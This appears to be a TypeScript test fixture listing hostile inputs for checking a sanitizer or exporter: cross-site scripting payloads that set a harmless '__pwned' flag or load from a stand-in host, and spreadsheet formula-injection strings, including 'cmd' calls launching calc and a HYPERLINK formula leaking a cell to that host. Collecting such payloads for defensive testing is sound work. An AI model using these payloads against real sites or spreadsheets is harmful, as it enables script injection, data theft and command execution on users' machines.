// Texts that would do something if anybody took them for more than text.

/** Where a text tries to load something from. */
export const elsewhere = 'https://tracker.example.net/pixel.gif';

export const scriptPayloads = [
  '<script>globalThis.__pwned = true</script>',
  `<img src="${elsewhere}" onerror="globalThis.__pwned = true">`,
  '<svg onload="globalThis.__pwned = true"><animate onbegin="globalThis.__pwned = true" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>globalThis.__pwned=true</script></svg>#x" /></svg>',
  '<iframe srcdoc="<script>top.__pwned = true</script>"></iframe>',
  `<style>@import url(${elsewhere}); body { background: url(${elsewhere}) }</style>`,
  '<a href="javascript:globalThis.__pwned=true">a link</a>',
  'javascript:globalThis.__pwned=true',
  ' java\nscript:globalThis.__pwned=true//@example.com',
  'data:text/html,<script>globalThis.__pwned=true</script>',
  `url(${elsewhere})`,
  `red;background-image:url(${elsewhere})`,
  '<form action="javascript:globalThis.__pwned=true"><button formaction="javascript:globalThis.__pwned=true">Save</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.__pwned=true&gt;">',
  `<object data="${elsewhere}"></object><embed src="${elsewhere}"><video poster="${elsewhere}"></video>`,
  `<link rel="stylesheet" href="${elsewhere}"><base href="https://tracker.example.net/"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  '"><img src=x onerror=globalThis.__pwned=true><"',
  "'-globalThis.__pwned=true-'",
  '{{constructor.constructor("globalThis.__pwned=true")()}}',
  `<table background="${elsewhere}"><td style="background:url(${elsewhere})" onclick="globalThis.__pwned=true">cell</td></table>`,
  '\u202egnp.exe\u0000<b id="panel" class="dialog" name="body">',
];

/** What a spreadsheet would run or follow. */
export const formulaPayloads = [
  '=HYPERLINK("https://tracker.example.net/?x="&A1,"Open")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '",=1+1,"',
  '"\r\n=1+1',
];
